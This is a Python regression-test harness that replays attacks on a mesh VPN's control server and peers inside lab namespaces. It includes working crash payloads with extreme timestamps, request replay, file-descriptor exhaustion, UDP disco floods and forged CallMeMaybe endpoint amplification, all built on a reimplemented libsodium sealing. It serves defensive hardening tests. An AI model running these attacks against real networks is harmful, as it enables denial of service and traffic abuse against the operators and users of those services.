#!/usr/bin/env python3
"""adversary.py - the attacks of the hardening issue, replayed against the real binaries.

An independent implementation of the control protocol's sealing (crypto_box through libsodium
by ctypes) and of the disco envelope, so the attacks do not go through mesh's own code:

  crash URL TOKEN                 sealed /v1/map from a fresh key with ts = Int64.min and .max
  register URL TOKEN STATE NAME [--disco-key B64]
                                  registers a node; its keys go to STATE (JSON)
  map URL TOKEN STATE             one /v1/map poll (wait: false)
  endpoints URL TOKEN STATE OUT   a sealed /v1/endpoints, sent once; its bytes saved to OUT
  resend URL PATH FILE            POSTs FILE's bytes to PATH again (a replay)
  fd-flood HOST PORT N READY      holds N idle TCP connections; writes the count to READY
  disco-flood HOST PORT RATE SECS "MESHDS" + 116 random bytes at RATE datagrams/s
  callmemaybe HOST PORT STATE VICTIM_DISCO COUNT N PREFIX
                                  COUNT sealed CallMeMaybes of N invented endpoints each
                                  (PREFIX.1 .. PREFIX.N, a new port range per message)

Every command prints one JSON object: HTTP status, error code, seconds taken.
Only lab addresses (namespaces made by the test) are ever targets.
"""
import base64
import ctypes
import http.client
import json
import os
import socket
import struct
import sys
import time
import urllib.parse

sodium = ctypes.CDLL("libsodium.so.23")
assert sodium.sodium_init() >= 0
BOX_NONCE, BOX_MAC = 24, 16


def keypair():
    pk, sk = ctypes.create_string_buffer(32), ctypes.create_string_buffer(32)
    sodium.crypto_box_keypair(pk, sk)
    return pk.raw, sk.raw


def box(msg, nonce, pk, sk):
    out = ctypes.create_string_buffer(len(msg) + BOX_MAC)
    assert sodium.crypto_box_easy(out, msg, ctypes.c_ulonglong(len(msg)), nonce, pk, sk) == 0
    return out.raw


def unbox(c, nonce, pk, sk):
    out = ctypes.create_string_buffer(max(1, len(c) - BOX_MAC))
    if sodium.crypto_box_open_easy(out, c, ctypes.c_ulonglong(len(c)), nonce, pk, sk) != 0:
        return None
    return out.raw[: len(c) - BOX_MAC]


b64 = lambda b: base64.b64encode(b).decode()


def parse_token(token):
    body = token.strip()[len("mesh1_"):]
    raw = base64.urlsafe_b64decode(body + "=" * (-len(body) % 4))
    return {"coord_key": raw[:32], "secret": raw[32:64], "url": raw[64:-4].decode()}


def seal(body, node_pk, node_sk, coord_pk, ts=None):
    rid = os.urandom(16)
    payload = json.dumps({"ts": int(time.time() * 1000) if ts is None else ts, "rid": b64(rid), "body": body}).encode()
    nonce = os.urandom(BOX_NONCE)
    env = {"nodeKey": b64(node_pk), "nonce": b64(nonce), "box": b64(box(payload, nonce, coord_pk, node_sk))}
    return json.dumps(env).encode()


def post(url, path, data, timeout=10):
    u = urllib.parse.urlsplit(url)
    t0 = time.monotonic()
    try:
        c = http.client.HTTPConnection(u.hostname, u.port or 80, timeout=timeout)
        c.request("POST", path, body=data, headers={"Content-Type": "application/json"})
        r = c.getresponse()
        text = r.read()
        c.close()
        status = r.status
    except Exception as e:  # a refused or reset connection is an answer too
        return {"status": None, "error": type(e).__name__, "seconds": round(time.monotonic() - t0, 3)}
    out = {"status": status, "seconds": round(time.monotonic() - t0, 3)}
    try:
        j = json.loads(text)
        if "code" in j:
            out["code"], out["message"] = j["code"], j.get("error")
    except ValueError:
        out["raw"] = text[:200].decode(errors="replace")
    return out


def load_state(path):
    with open(path) as f:
        s = json.load(f)
    return {k: base64.b64decode(v) if k.endswith(("_pk", "_sk")) else v for k, v in s.items()}


def cmd_crash(url, token):
    t = parse_token(token)
    pk, sk = keypair()
    results = []
    for ts in (-(2 ** 63), 2 ** 63 - 1, -(2 ** 63) + 1):
        results.append(post(url, "/v1/map", seal({"wait": False}, pk, sk, t["coord_key"], ts=ts)))
    return {"results": results}


def cmd_register(url, token, state, name, disco=None):
    t = parse_token(token)
    node_pk, node_sk = keypair()
    disco_pk, disco_sk = keypair()
    if disco:
        disco_pk, disco_sk = base64.b64decode(disco), b"\0" * 32
    body = {"authKey": base64.urlsafe_b64encode(t["secret"]).decode().rstrip("="), "hostname": name,
            "os": "adversary", "discoKey": b64(disco_pk)}
    r = post(url, "/v1/register", seal(body, node_pk, node_sk, t["coord_key"]))
    with open(state, "w") as f:
        json.dump({"node_pk": b64(node_pk), "node_sk": b64(node_sk), "disco_pk": b64(disco_pk),
                   "disco_sk": b64(disco_sk)}, f)
    return r


def cmd_map(url, token, state):
    t, s = parse_token(token), load_state(state)
    return post(url, "/v1/map", seal({"wait": False}, s["node_pk"], s["node_sk"], t["coord_key"]))


def cmd_endpoints(url, token, state, out):
    t, s = parse_token(token), load_state(state)
    data = seal({"endpoints": ["192.0.2.66:41641"]}, s["node_pk"], s["node_sk"], t["coord_key"])
    with open(out, "wb") as f:
        f.write(data)
    return post(url, "/v1/endpoints", data)


def cmd_resend(url, path, file):
    with open(file, "rb") as f:
        return post(url, path, f.read())


def cmd_fd_flood(host, port, n, ready):
    import signal
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    socks, refused = [], 0
    for _ in range(int(n)):
        s = socket.socket()
        s.settimeout(2)
        try:
            s.connect((host, int(port)))
            socks.append(s)
        except OSError:
            refused += 1
            s.close()
    with open(ready + ".tmp", "w") as f:
        f.write(json.dumps({"connected": len(socks), "refused": refused}))
    os.rename(ready + ".tmp", ready)
    while True:  # hold them; the test stops us by PID
        time.sleep(3600)


def cmd_disco_flood(host, port, rate, secs):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rate, secs = int(rate), float(secs)
    junk = [b"MESHDS" + os.urandom(116) for _ in range(1024)]
    sent, t0 = 0, time.monotonic()
    while True:
        now = time.monotonic() - t0
        if now >= secs:
            break
        due = min(int(now * rate) + 1, int(secs * rate))
        while sent < due:
            try:
                s.sendto(junk[sent & 1023], (host, int(port)))
            except OSError:
                pass
            sent += 1
        time.sleep(0.0005)
    return {"sent": sent, "seconds": round(time.monotonic() - t0, 3)}


def cmd_callmemaybe(host, port, state, victim_disco, count, n, prefix):
    s = load_state(state)
    victim = base64.b64decode(victim_disco)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent_bytes = 0
    for m in range(int(count)):
        eps = b""
        for i in range(int(n)):
            ip = socket.inet_aton(f"{prefix}.{i + 1}")
            eps += b"\0" * 10 + b"\xff\xff" + ip + struct.pack(">H", 20000 + m * 100 + i)
        msg = bytes([3, 0]) + eps
        nonce = os.urandom(BOX_NONCE)
        pkt = b"MESHDS" + s["disco_pk"] + nonce + box(msg, nonce, victim, s["disco_sk"])
        sock.sendto(pkt, (host, int(port)))
        sent_bytes += len(pkt) + 28
        time.sleep(0.05)
    return {"messages": int(count), "bytes": sent_bytes}


def main(argv):
    commands = {"crash": cmd_crash, "register": cmd_register, "map": cmd_map, "endpoints": cmd_endpoints,
                "resend": cmd_resend, "fd-flood": cmd_fd_flood, "disco-flood": cmd_disco_flood,
                "callmemaybe": cmd_callmemaybe}
    if len(argv) < 2 or argv[1] not in commands:
        print(__doc__, file=sys.stderr)
        return 2
    args = argv[2:]
    kwargs = {}
    if "--disco-key" in args:
        i = args.index("--disco-key")
        kwargs["disco"] = args[i + 1]
        del args[i:i + 2]
    print(json.dumps(commands[argv[1]](*args, **kwargs)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
